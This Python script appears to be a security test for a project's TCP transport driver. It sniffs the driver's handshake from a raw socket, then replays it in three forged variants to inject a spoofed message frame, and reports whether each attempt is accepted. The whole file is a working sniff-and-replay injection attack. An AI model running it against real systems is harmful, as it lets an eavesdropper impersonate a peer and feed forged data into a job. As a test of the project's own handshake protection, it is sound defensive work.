#!/usr/bin/env python3
"""A stranger on the wire against hcomm's tcp driver (issue 30.5).

    tcp_inject.py sniff IFACE SRC DST OUT SECONDS
        Records, from a raw socket on IFACE (a bridge port: it sees what
        crosses the link), the first bytes of every TCP stream from SRC to
        DST that starts with a tcp driver hello, and writes them to OUT
        (JSON). Stops once a stream holds a hello and the victim's message
        (an EAGER frame with tag 7), or after SECONDS. Prints "ready" once
        the socket is bound.

    tcp_inject.py attack OUT HOST
        Replays what OUT recorded, as a third party that only listened:
        (1) the hello on socket index 9 (the job opens 4 per peer), then a
        forged frame; (2) the hello verbatim, then a forged frame; (3) (a
        version 2 hello) the hello with its counter raised. The
        forged frame is the recorded message's header with tag 99 and 8
        bytes of 0x41: a message "from" the hello's source rank. Prints one
        line per attempt: "attempt NAME: accepted" when the acceptor
        answered ACCEPT, "attempt NAME: refused (...)" otherwise. Sockets
        stay open until the end (an accepted one closed without the
        driver's goodbye would fail the job instead of feeding it).

Only the standard library; needs CAP_NET_RAW for sniff.
"""
import json
import socket
import struct
import sys
import time

MAGIC = struct.pack("<I", 0x68637470)  # "hctp"
FRAME_HDR = 32
EAGER = 1  # HC_FRAME_EAGER (drv/drv.h)


def hello_len(data):
    """The hello's size from its version field (1: the key in the clear)."""
    version = struct.unpack_from("<H", data, 4)[0]
    return {1: 96, 2: 88}.get(version)


def message(data):
    """The header of the first EAGER frame with tag 7 (the victim's message
    to rank 1) after the hello, or None."""
    n = hello_len(data) if len(data) >= 6 else None
    off = n or len(data)
    while off + FRAME_HDR <= len(data):
        ftype, tag, length = data[off], *struct.unpack_from("<iI", data, off + 8)
        if ftype == EAGER and tag == 7:
            return data[off:off + FRAME_HDR]
        off += FRAME_HDR + length
    return None


def sniff(iface, src, dst, out, seconds):
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.ntohs(0x0003))
    s.bind((iface, 0))
    s.settimeout(0.2)
    print("ready", flush=True)
    streams = {}  # (sport, dport) -> {next seq: bytes}
    src_b, dst_b = socket.inet_aton(src), socket.inet_aton(dst)
    end = time.time() + seconds
    done = False
    while time.time() < end and not done:
        try:
            pkt = s.recv(65535)
        except socket.timeout:
            continue
        if len(pkt) < 14 + 20 or pkt[12:14] != b"\x08\x00":
            continue
        ip = pkt[14:]
        ihl = (ip[0] & 0x0F) * 4
        if ip[9] != 6 or ip[12:16] != src_b or ip[16:20] != dst_b:
            continue
        total = struct.unpack_from("!H", ip, 2)[0]
        tcp = ip[ihl:total]
        sport, dport, seq = struct.unpack_from("!HHI", tcp, 0)
        payload = tcp[(tcp[12] >> 4) * 4:]
        key = (sport, dport)
        st = streams.get(key)
        if st is None:
            if not payload.startswith(MAGIC):
                continue
            st = streams[key] = {"seq": seq, "data": b""}
        if not payload or seq != st["seq"] + len(st["data"]):
            continue  # a retransmission or a gap: the veth keeps order
        st["data"] += payload
        done = message(st["data"]) is not None
    rec = [{"sport": k[0], "dport": k[1], "data": v["data"].hex()} for k, v in streams.items()]
    with open(out, "w") as f:
        json.dump(rec, f)
    print("recorded %d streams, %s" % (len(rec), "with a frame" if done else "no frame"),
          flush=True)
    return 0 if rec else 1


def attempt(name, host, port, hello, frame):
    """Sends hello + frame; returns the socket (kept open) or None."""
    try:
        c = socket.create_connection((host, port), timeout=3)
        c.sendall(hello + frame)
        c.settimeout(3)
        answer = b""
        while len(answer) < 16:
            got = c.recv(16 - len(answer))
            if not got:
                break
            answer += got
    except OSError as e:
        print("attempt %s: refused (%s)" % (name, e), flush=True)
        return None
    if len(answer) >= 8 and answer[:4] == MAGIC:
        verdict = struct.unpack_from("<I", answer, 4)[0]
        word = "accepted" if verdict == 0 else "refused (verdict %d)" % verdict
    else:
        word = "refused (closed after %d bytes)" % len(answer)
    print("attempt %s: %s" % (name, word), flush=True)
    return c


def attack(out, host):
    with open(out) as f:
        rec = json.load(f)
    for r in rec:
        data = bytes.fromhex(r["data"])
        hdr = message(data)
        if hdr:
            break
    else:
        print("no recorded stream holds a hello and the message", flush=True)
        return 1
    n = hello_len(data)
    hello, hdr = data[:n], bytearray(hdr)
    struct.pack_into("<iI", hdr, 8, 99, 8)  # tag 99, 8 payload bytes
    frame = bytes(hdr) + b"A" * 8
    idx = struct.unpack_from("<H", hello, 6)[0]
    print("replaying a %d-byte hello (socket %d) to %s:%d" % (n, idx, host, r["dport"]),
          flush=True)
    other = bytearray(hello)
    struct.pack_into("<H", other, 6, 9)
    kept = [attempt("index9", host, r["dport"], bytes(other), frame)]
    kept.append(attempt("replay", host, r["dport"], hello, frame))
    if struct.unpack_from("<H", hello, 4)[0] >= 2:
        # Version 2 counts its hellos: a higher count, same signature.
        bumped = bytearray(hello)
        struct.pack_into("<Q", bumped, 32, struct.unpack_from("<Q", hello, 32)[0] + 1000)
        kept.append(attempt("bumped", host, r["dport"], bytes(bumped), frame))
    time.sleep(2)  # the acceptor reads the frames of the sockets it took
    for c in kept:
        if c:
            c.close()
    return 0


def main():
    if len(sys.argv) == 7 and sys.argv[1] == "sniff":
        return sniff(sys.argv[2], sys.argv[3], sys.argv[4], sys.argv[5], float(sys.argv[6]))
    if len(sys.argv) == 4 and sys.argv[1] == "attack":
        return attack(sys.argv[2], sys.argv[3])
    print(__doc__, file=sys.stderr)
    return 2


if __name__ == "__main__":
    sys.exit(main())
